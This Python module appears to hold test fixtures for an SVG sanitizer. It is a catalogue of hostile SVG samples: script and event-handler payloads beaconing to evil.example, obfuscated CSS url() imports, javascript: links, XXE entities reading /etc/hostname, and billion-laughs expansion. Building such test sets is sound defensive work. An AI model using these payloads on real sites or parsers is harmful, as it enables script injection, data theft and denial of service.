"""SVG files that act, fetch or fill the memory when a browser shows them; what acts asks for evil.example."""

from __future__ import annotations

SECRET = "zqsecretsvg"
ACT = "new Image().src='https://evil.example/'+(window.acted=1)//act()"
GONE = "https://evil.example/a"


def in_svg(body: str, attributes: str = "") -> str:
    """An SVG with a body."""
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'<svg {names} viewBox="0 0 99 99" width="99" height="99" {attributes}>{body}</svg>'


_PREFIXED = 'xmlns:x="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"'
_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
ATTACKS: dict[str, str | bytes] = {
    "script": in_svg(f"<script>{ACT}</script>"),
    "script in CDATA": in_svg(f"<script><![CDATA[{ACT}]]></script>"),
    "script with src": in_svg(f'<script href="{GONE}"/>'),
    "script with xlink": in_svg(f'<script xlink:href="{GONE}"/>'),
    "script of a type": in_svg(f'<script type="text/ecmascript">{ACT}</script>'),
    "module": in_svg(f'<script type="module">import "{GONE}"</script>'),
    "prefixed script": in_svg(f"<x:script>{ACT}</x:script>", _PREFIXED),
    "XHTML script": in_svg(f"<h:script>{ACT}</h:script>", _PREFIXED),
    "script in g": in_svg(f"<g><g><script>{ACT}</script></g></g>"),
    "script in defs": in_svg(f"<defs><script>{ACT}</script></defs>"),
    "script in title": in_svg(f"<title><script>{ACT}</script></title>"),
    "script in style": in_svg(f"<style><script>{ACT}</script></style>"),
    "script in script": in_svg(f"<script><script/>{ACT}</script>"),
    "script in a switch": in_svg(f"<switch><script>{ACT}</script></switch>"),
    "script in metadata": in_svg(f"<metadata/><rect onload='act()'/><script>{ACT}</script>"),
    "script with a text reference": in_svg(f"<script>&#110;ew {ACT}</script>"),
    "onload": in_svg("", f'onload="{ACT}"'),
    "onload of a shape": in_svg(f'<rect onload="{ACT}"/>'),
    "onclick": in_svg(f'<rect width="99" height="99" onclick="{ACT}"/>'),
    "onfocusin": in_svg(f'<text tabindex="0" autofocus="" onfocusin="{ACT}">a</text>'),
    "onbegin": in_svg(f'<animate onbegin="{ACT}" attributeName="x" dur="1s"/>'),
    "onerror": in_svg(f'<image href="{GONE}" onerror="{ACT}"/>'),
    "capital letters": in_svg(f'<rect onLoad="{ACT}"/><SCRIPT>{ACT}</SCRIPT>'),
    "foreignObject": in_svg(f'<foreignObject width="9" height="9"><p {_XHTML}><img src="{GONE}"/></p></foreignObject>'),
    "iframe": in_svg(f'<iframe {_XHTML} src="{GONE}"/>'),
    "XHTML image": in_svg(f'<img {_XHTML} src="{GONE}" onerror="{ACT}"/>'),
    "XHTML video": in_svg(f'<video {_XHTML} src="{GONE}" poster="{GONE}" autoplay=""/>'),
    "XHTML link": in_svg(f'<link {_XHTML} rel="stylesheet" href="{GONE}"/>'),
    "XHTML meta": in_svg(f'<meta {_XHTML} http-equiv="refresh" content="0; url={GONE}"/>'),
    "XHTML style": in_svg(f"<style {_XHTML}>* {{ background: url({GONE}) }}</style>"),
    "XHTML base": in_svg(f'<base {_XHTML} href="{GONE}"/>'),
    "image from elsewhere": in_svg(f'<image width="9" height="9" href="{GONE}"/>'),
    "image by xlink": in_svg(f'<image width="9" height="9" xlink:href="{GONE}"/>'),
    "image without a scheme": in_svg('<image width="9" height="9" href="//evil.example/a"/>'),
    "image beside it": in_svg('<image width="9" height="9" href="../evil.example.png"/>'),
    "image with HTML in it": in_svg('<image href="data:text/html;base64,PHNjcmlwdD4="/>'),
    "image with SVG in it": in_svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
    "image with a broken picture in it": in_svg('<image href="data:image/png;base64,iVBORw0KGgo="/>'),
    "use from elsewhere": in_svg(f'<use href="{GONE}#a"/>'),
    "use of data": in_svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
    "use of a file": in_svg('<use href="evil.example.svg#a"/>'),
    "feImage": in_svg(f'<filter id="f"><feImage href="{GONE}"/></filter><rect filter="url(#f)" width="9" height="9"/>'),
    "gradient from elsewhere": in_svg(f'<linearGradient href="{GONE}#a"/>'),
    "text on a path from elsewhere": in_svg(f'<text><textPath href="{GONE}#a">a</textPath></text>'),
    "link with a script": in_svg(f'<a href="javascript:{ACT}"><text y="20">a</text></a>'),
    "link by xlink": in_svg(f'<a xlink:href="java&#10;script:{ACT}"><text y="20">a</text></a>'),
    "animated link": in_svg(f'<a><animate attributeName="href" to="javascript:{ACT}"/><text y="20">a</text></a>'),
    "set link": in_svg(
        f'<a id="l"><text y="20">a</text></a><set href="#l" attributeName="href" to="javascript:{ACT}"/>'
    ),
    "animated image": in_svg(f'<image><animate attributeName="href" values="{GONE}" begin="0s"/></image>'),
    "animated style": in_svg(f'<rect><set attributeName="style" to="fill:url({GONE}#a)"/></rect>'),
    "handler": in_svg(f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{ACT}</handler>'),
    "listener": in_svg('<listener event="load" handler="#a"/>'),
    "discard": in_svg('<discard begin="0s"/>'),
    "import": in_svg(f'<style>@import "{GONE}";</style>'),
    "import by url": in_svg(f"<style>@import url({GONE});</style>"),
    "import after a comment": in_svg(f"<style>/* a */@/**/import url({GONE});</style>"),
    "import, hidden": in_svg(f"<style>@\\69mport '{GONE}';</style>"),
    "font": in_svg(f"<style>@font-face {{ font-family: a; src: url({GONE}) }} text {{ font-family: a }}</style>"),
    "url in a rule": in_svg(f"<style>rect {{ fill: url({GONE}#a) }}</style><rect width='9' height='9'/>"),
    "url, hidden": in_svg(f"<style>rect {{ fill: \\75rl({GONE}#a) }}</style><rect width='9' height='9'/>"),
    "function, hidden": in_svg('<rect width="9" height="9" style="fill: u\\rgb(1)"/>'),
    "url in capitals": in_svg(f"<style>rect {{ mask: URL('{GONE}#a') }}</style><rect width='9' height='9'/>"),
    "url after a known one": in_svg(f"<style>rect {{ mask: url(#a), url({GONE}#a) }}</style>"),
    "url in media": in_svg(f"<style>@media all {{ rect {{ mask: url({GONE}) }} }}</style>"),
    "image-set": in_svg(f"<style>svg {{ mask: image-set('{GONE}' 1x) }}</style>"),
    "background": in_svg("", f'style="background: url({GONE})"'),
    "cursor": in_svg("", f'style="cursor: url({GONE}), auto"'),
    "fill from elsewhere": in_svg(f'<rect width="9" height="9" fill="url({GONE}#a)"/>'),
    "filter from elsewhere": in_svg(f'<rect width="9" height="9" filter="url(\'{GONE}#a\')"/>'),
    "mask in a style": in_svg(f'<rect width="9" height="9" style="mask:url( {GONE}#a )"/>'),
    "style with a comment in url": in_svg(f'<rect width="9" height="9" style="mask:u/**/rl({GONE}#a)"/>'),
    "style from elsewhere": f'<?xml-stylesheet href="{GONE}"?>' + in_svg(""),
    "style sheet that transforms": f'<?xml-stylesheet type="text/xsl" href="{GONE}"?>' + in_svg(""),
    "xml:base": in_svg("<use href='#a'/>", 'xml:base="https://evil.example/"'),
    "XInclude": in_svg(f'<include xmlns="http://www.w3.org/1999/xhtml" href="{GONE}"/><script/>'),
    "HTML attributes": in_svg(f'<rect srcdoc="{GONE}" src="{GONE}" ping="{GONE}"/>'),
    "UTF-16": f'<?xml version="1.0" encoding="UTF-16"?>{in_svg(f"<script>{ACT}</script>")}'.encode("utf-16"),
    "another root prefix": f'<x:svg {_PREFIXED}><x:script>{ACT}</x:script><h:img src="{GONE}"/></x:svg>',
}
_BILLION = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10 if number else SECRET}">' for number in range(10))
_USES = "".join(f'<g id="g{number}">{f'<use href="#g{number - 1}"/>' * 10}</g>' for number in range(1, 10))
REFUSED: dict[str, bytes] = {
    "a billion laughs": f"<!DOCTYPE svg [{_BILLION}]>{in_svg('&a9;')}".encode(),
    "a file of the machine": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/hostname">]>{in_svg("&a;")}'.encode(),
    "a parameter entity": f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{GONE}"> %a;]>{in_svg("")}'.encode(),
    "an unknown entity": f'<!DOCTYPE svg SYSTEM "{GONE}">{in_svg("<text>&a;</text>")}'.encode(),
    "a billion shapes": in_svg(f'<g id="g0"><rect/></g>{_USES}').encode(),
    "a use of itself": in_svg('<g id="g"><use href="#g"/></g>').encode(),
    "HTML": b"<!doctype html><html><script>act()</script></html>",
    "XHTML": b'<html xmlns="http://www.w3.org/1999/xhtml"/>',
    "RSS": b"<rss/>",
    "another svg": b'<svg xmlns="https://evil.example"/>',
    "cut off": in_svg("<rect/>").encode()[:-8],
    "empty": b"",
    "a PNG": b"\x89PNG\r\n\x1a\n",
    "another encoding": b'<?xml version="1.0" encoding="nowhere"?><svg/>',
    "an unbound prefix": b'<svg xmlns="http://www.w3.org/2000/svg"><a:b/></svg>',
    "two roots": b"<svg/><svg/>",
}
